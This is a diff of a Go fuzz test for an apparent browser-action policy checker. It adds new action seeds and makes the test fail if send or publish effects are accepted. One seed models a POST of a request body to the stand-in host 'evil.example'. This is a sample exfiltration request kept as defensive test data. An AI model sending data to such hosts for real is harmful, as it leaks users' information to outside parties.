@@ -21,6 +21,9 @@ func FuzzDescribe(f *testing.F) {
 		{"select", `{"selector":"#x","values":["a","b"]}`},
 		{"press", `{"selector":"#x","key":"Enter"}`},
 		{"content", `{}`},
+		{"screenshot", `{"inline":false}`},
+		{"switch", `{"page":1}`},
+		{"pages", `{}`},
 		{"send", `{"method":"POST","url":"evil.example/x","page_url":"a","body_size":1}`},
 	} {
 		f.Add(seed.action, []byte(seed.params))
@@ -34,7 +37,7 @@ func FuzzDescribe(f *testing.F) {
 			return
 		}
 		e := prop.Effect
-		if e.Sink != policy.SinkBrowser || e.Action == browser.EffectSend || !strings.HasPrefix(prop.Digest, "sha256:") {
+		if e.Sink != policy.SinkBrowser || e.Action == browser.EffectSend || e.Action == browser.EffectPublish || !strings.HasPrefix(prop.Digest, "sha256:") {
 			t.Fatalf("accepted %s %q as %+v", action, params, prop)
 		}
 		if strings.Contains(e.Target, "?") || strings.Contains(e.Path, "?") {
